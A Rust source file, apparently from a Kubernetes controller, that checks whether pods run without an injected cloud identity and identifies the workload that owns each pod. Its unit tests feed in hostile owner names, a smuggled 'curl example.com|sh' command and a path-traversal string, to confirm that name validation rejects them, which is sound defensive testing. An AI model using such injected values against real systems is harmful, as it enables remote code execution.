//! PURE: a pod as the watch shows it, and whether it runs without its identity.

use std::borrow::Cow;
use std::collections::BTreeMap;

use crds::names::label;
use crds::pod::injected::without_identity;
use crds::pod::text::Text;
use crds::pod::{Metadata, Pod};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use serde::Deserialize;

use super::model::{Expected, Missing, WorkloadKind, WorkloadRef};

/// What the rules read of a pod's specification besides its containers.
#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct Account<'a> {
    /// Absent only in a pod that no API server has admitted.
    #[serde(borrow, default)]
    service_account_name: Option<Text<'a>>,
}

/// The name of a pod's `ServiceAccount`. `spec` is JSON text.
#[must_use]
pub fn service_account(spec: &str) -> Option<String> {
    let account: Account<'_> = serde_json::from_str(spec).ok()?;
    account.service_account_name.map(|name| name.to_string())
}

/// Whether a pod runs without the identity; `None` where it has it, has ended or is ending, or where its label says that it gets none.
/// A pod that cannot be read is not one of them: the API server has accepted it, so it says something that this program does not
/// know.
#[must_use]
pub fn examine(
    metadata: &ObjectMeta,
    spec: &str,
    phase: Option<&str>,
    expected: &Expected,
    prefix: &str,
) -> Option<Missing> {
    let labels = metadata.labels.as_ref();
    let opted_out =
        labels.and_then(|labels| labels.get(label::INJECTION)).is_some_and(|value| value == "disabled");
    let ended = matches!(phase, Some("Succeeded" | "Failed")) || metadata.deletion_timestamp.is_some();
    if opted_out || ended {
        return None;
    }
    let annotations = metadata.annotations.as_ref().map(borrowed);
    let pod = Pod {
        metadata: Some(Metadata { name: None, labels: None, annotations }),
        spec: serde_json::from_str(spec).ok()?,
    };
    let why = without_identity(&pod, &expected.identity(prefix))?;
    Some(Missing::new(&why, workload(metadata)))
}

fn borrowed(all: &BTreeMap<String, String>) -> BTreeMap<Text<'_>, Text<'_>> {
    let text = |text| Text(Cow::Borrowed(text));
    all.iter().map(|(key, value)| (text(key.as_str()), text(value.as_str()))).collect()
}

/// What made the pod. The `ReplicaSet` of a Deployment has the Deployment's name and the hash of the template, which is a label of
/// the pod, too (Kubernetes documentation, "Deployments", "Pod-template-hash label").
fn workload(metadata: &ObjectMeta) -> Option<WorkloadRef> {
    let owner = metadata.owner_references.iter().flatten().find(|owner| owner.controller == Some(true))?;
    if !owner.api_version.starts_with("apps/") {
        return None;
    }
    let (kind, name) = match owner.kind.as_str() {
        "ReplicaSet" => {
            let hash = metadata.labels.as_ref()?.get("pod-template-hash")?;
            (WorkloadKind::Deployment, owner.name.strip_suffix(hash.as_str())?.strip_suffix('-')?)
        }
        "StatefulSet" => (WorkloadKind::StatefulSet, owner.name.as_str()),
        "DaemonSet" => (WorkloadKind::DaemonSet, owner.name.as_str()),
        _ => return None,
    };
    // Whoever makes a pod chooses the name of its owner: it is put into a URL, and into a command for a person.
    is_object_name(name).then(|| WorkloadRef { kind, name: name.into() })
}

/// Whether an object may have that name (RFC 1123 subdomain).
fn is_object_name(name: &str) -> bool {
    let is_label = |label: &str| {
        let allowed = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
        !label.is_empty() && !label.starts_with('-') && !label.ends_with('-') && label.bytes().all(allowed)
    };
    name.len() <= 253 && name.split('.').all(is_label)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test fails by panicking")]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn missing(metadata: Value, phase: &str) -> Option<Missing> {
        let spec = json!({"serviceAccountName": "app", "containers": [{"name": "app"}]}).to_string();
        let expected = Expected { role_arn: "arn".into(), audience: "sts.amazonaws.com".into() };
        let metadata = serde_json::from_value(metadata).unwrap();
        examine(&metadata, &spec, Some(phase), &expected, super::super::model::DEFAULT_PREFIX)
    }

    #[test]
    fn pods_that_have_ended_or_want_no_identity_do_not_count() {
        let ending = json!({"deletionTimestamp": "2026-01-01T00:00:00Z"});
        let label = |value: &str| json!({"labels": {"podidentity.dev/injection": value}});
        for (row, metadata, phase, counts) in [
            ("runs", json!({}), "Running", true),
            ("is pending", json!({}), "Pending", true),
            ("has succeeded", json!({}), "Succeeded", false),
            ("has failed", json!({}), "Failed", false),
            ("is being deleted", ending, "Running", false),
            ("wants none", label("disabled"), "Running", false),
            ("has another value", label("enabled"), "Running", true),
        ] {
            assert_eq!(missing(metadata, phase).is_some(), counts, "{row}");
        }
    }

    #[test]
    fn the_workload_of_a_pod_is_found_by_its_controller() {
        let owned = |api: &str, kind: &str, name: &str, controller: bool| {
            let owner =
                json!({"apiVersion": api, "kind": kind, "name": name, "controller": controller, "uid": "u"});
            let labels = json!({"pod-template-hash": "5d89"});
            missing(json!({"ownerReferences": [owner], "labels": labels}), "Running").unwrap().workload
        };
        let workload = |kind, name: &str| Some(WorkloadRef { kind, name: name.into() });
        for (api, kind, name, controller, expected) in [
            ("apps/v1", "ReplicaSet", "web-5d89", true, workload(WorkloadKind::Deployment, "web")),
            ("apps/v1", "ReplicaSet", "web-77", true, None),
            ("apps/v1", "StatefulSet", "db", true, workload(WorkloadKind::StatefulSet, "db")),
            ("apps/v1", "DaemonSet", "log", true, workload(WorkloadKind::DaemonSet, "log")),
            ("apps/v1", "StatefulSet", "db", false, None),
            ("batch/v1", "Job", "job", true, None),
            ("apps/v1", "StatefulSet", "x; curl example.com|sh", true, None),
            ("apps/v1", "StatefulSet", "../../other/statefulsets/db", true, None),
            ("apps/v1", "ReplicaSet", "-5d89", true, None),
            ("example.com/v1", "StatefulSet", "db", true, None),
        ] {
            assert_eq!(owned(api, kind, name, controller), expected, "{kind} {name}");
        }
    }
}
